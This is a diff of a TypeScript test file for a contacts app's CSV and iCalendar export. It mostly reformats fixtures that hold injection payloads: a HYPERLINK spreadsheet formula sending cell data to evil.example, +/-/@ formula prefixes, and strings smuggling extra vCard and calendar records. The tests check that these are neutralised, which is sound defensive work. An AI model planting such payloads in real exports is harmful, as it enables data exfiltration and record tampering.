@@ -10,7 +10,19 @@ const HOSTILE = 'a note\nEND:VCARD\nBEGIN:VCARD\nFN:Injected\nEND:VCALENDAR\nBEG
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 const person = (id: string, over: Partial<Person>): Person => ({
-  id, createdAt: at, updatedAt: at, name: id, emails: [], phones: [], links: [], tags: [], howWeMet: {}, learned: [], notes: [], archived: false, ...over,
+  id,
+  createdAt: at,
+  updatedAt: at,
+  name: id,
+  emails: [],
+  phones: [],
+  links: [],
+  tags: [],
+  howWeMet: {},
+  learned: [],
+  notes: [],
+  archived: false,
+  ...over,
 })
 const people: Person[] = [
   person('3f2b8f0e-7c1a-4d2e-9b1f-0a1b2c3d4e5f', {
@@ -19,12 +31,22 @@ const people: Person[] = [
     role: 'Head of Sales',
     emails: ['jose@acme.example', 'jose@home.example'],
     phones: ['+1 555 010 2030'],
-    links: [{ label: 'LinkedIn', url: 'https://www.linkedin.com/in/jose-nunez' }, { label: 'Blog; "mine", new', url: 'https://jose.example/a,b;c' }],
+    links: [
+      { label: 'LinkedIn', url: 'https://www.linkedin.com/in/jose-nunez' },
+      { label: 'Blog; "mine", new', url: 'https://jose.example/a,b;c' },
+    ],
     tags: ['Leads group', 'golf, tennis', 'a;b'],
     howWeMet: { date: '2023-01-15' },
-    notes: [{ id: 'n1', text: HOSTILE, private: false, createdAt: at }, { id: 'n2', text: 'secret', private: true, createdAt: at }],
+    notes: [
+      { id: 'n1', text: HOSTILE, private: false, createdAt: at },
+      { id: 'n2', text: 'secret', private: true, createdAt: at },
+    ],
   }),
-  person('sample-00002', { name: '李小龙', company: '北京科技有限公司', howWeMet: { introducedById: '3f2b8f0e-7c1a-4d2e-9b1f-0a1b2c3d4e5f', date: '2024-02-29' } }),
+  person('sample-00002', {
+    name: '李小龙',
+    company: '北京科技有限公司',
+    howWeMet: { introducedById: '3f2b8f0e-7c1a-4d2e-9b1f-0a1b2c3d4e5f', date: '2024-02-29' },
+  }),
   person('sample-00003', { name: FORMULA, role: '+1 line\nbreak', howWeMet: { introducedByName: 'Karin Berg, via email' } }),
 ]
 const comparable = (p: Person) => ({
@@ -90,7 +112,14 @@ describe('CSV export', () => {
   const parse = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data
 
   it('neutralises cells a spreadsheet would run as formulas, including ones with a line break', () => {
-    const evil = person('p9', { name: FORMULA, company: '+SUM(A1)', role: '-2+3', industry: '@cmd', tags: ['\tTAB'], notes: [{ id: 'n', text: '=1+1\nsecond line', private: false, createdAt: at }] })
+    const evil = person('p9', {
+      name: FORMULA,
+      company: '+SUM(A1)',
+      role: '-2+3',
+      industry: '@cmd',
+      tags: ['\tTAB'],
+      notes: [{ id: 'n', text: '=1+1\nsecond line', private: false, createdAt: at }],
+    })
     const [header, row] = parse(writePeopleCsv([evil], { people: [evil], events: [] }))
     expect(header![0]).toBe('Name')
     expect(row!.slice(0, 4)).toEqual([`'${FORMULA}`, "'+SUM(A1)", "'-2+3", "'@cmd"])
@@ -111,11 +140,28 @@ describe('CSV export', () => {
 
 describe('iCalendar export', () => {
   const event: NetworkEvent = {
-    id: 'ev1', createdAt: at, updatedAt: at, title: 'Mixer; drinks, talk\nEND:VEVENT', kind: 'chamber-mixer',
-    startsAt: '2026-12-03T17:00:00.000Z', endsAt: '2026-12-03T19:00:00.000Z', venue: 'Hôtel Riverside, ballroom', expectedAttendeeIds: [], goals: 'Meet 2', notes: HOSTILE,
+    id: 'ev1',
+    createdAt: at,
+    updatedAt: at,
+    title: 'Mixer; drinks, talk\nEND:VEVENT',
+    kind: 'chamber-mixer',
+    startsAt: '2026-12-03T17:00:00.000Z',
+    endsAt: '2026-12-03T19:00:00.000Z',
+    venue: 'Hôtel Riverside, ballroom',
+    expectedAttendeeIds: [],
+    goals: 'Meet 2',
+    notes: HOSTILE,
   }
   const followUps: FollowUp[] = [
-    { id: 'f1', createdAt: at, updatedAt: at, dueAt: '2026-12-01T09:00:00.000Z', personId: 'sample-00002', note: 'Send the deck; ask, about Q1', status: 'pending' },
+    {
+      id: 'f1',
+      createdAt: at,
+      updatedAt: at,
+      dueAt: '2026-12-01T09:00:00.000Z',
+      personId: 'sample-00002',
+      note: 'Send the deck; ask, about Q1',
+      status: 'pending',
+    },
     { id: 'f2', createdAt: at, updatedAt: at, dueAt: '2026-11-01T09:00:00.000Z', note: 'Old', status: 'done' },
   ]
   const text = writeCalendar({ events: [event], followUps, people }, now)
